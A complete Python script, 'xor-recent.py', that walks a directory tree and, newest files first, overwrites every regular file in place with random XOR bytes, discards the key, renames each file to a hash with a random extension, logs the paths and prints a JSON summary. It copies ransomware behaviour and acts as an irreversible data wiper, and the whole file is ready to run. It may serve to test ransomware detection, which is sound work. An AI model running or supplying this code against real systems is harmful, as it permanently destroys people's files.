#!/usr/bin/env python3
"""xor-recent.py ROOT LOG: newest files first, XOR with an os.urandom keystream in place,
then rename to a hash of the old name with a random extension. DESTROYS ROOT's files."""
import hashlib
import os
import secrets
import string
import sys
import time

root, logpath = sys.argv[1], sys.argv[2]
ext = "".join(secrets.choice(string.ascii_lowercase) for _ in range(5))
log = os.open(logpath, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o644)
files = []
for d, _, names in os.walk(root):
    for n in names:
        p = os.path.join(d, n)
        try:
            st = os.lstat(p)
        except OSError:
            continue
        if os.path.isfile(p) and not os.path.islink(p) and st.st_size > 0:
            files.append((st.st_mtime, p))
files.sort(reverse=True)
done = 0
for _, p in files:
    line = f"{time.time_ns()} {os.getpid()} enc {p}".encode("utf-8", "surrogateescape")
    os.write(log, line.replace(b"\\", b"\\\\").replace(b"\n", b"\\n") + b"\n")
    try:
        with open(p, "r+b") as f:
            off = 0
            while True:
                f.seek(off)
                blk = f.read(65536)
                if not blk:
                    break
                ks = os.urandom(len(blk))
                f.seek(off)
                f.write(bytes(a ^ b for a, b in zip(blk, ks)))
                off += len(blk)
        h = hashlib.sha1(os.fsencode(p)).hexdigest()[:16]
        os.rename(p, os.path.join(os.path.dirname(p), f"{h}.{ext}"))
        done += 1
    except OSError as e:
        print(f"xor-recent: {p}: {e}", file=sys.stderr)
print(f'{{"mode":"xor-recent","files_done":{done},"ext":"{ext}"}}')
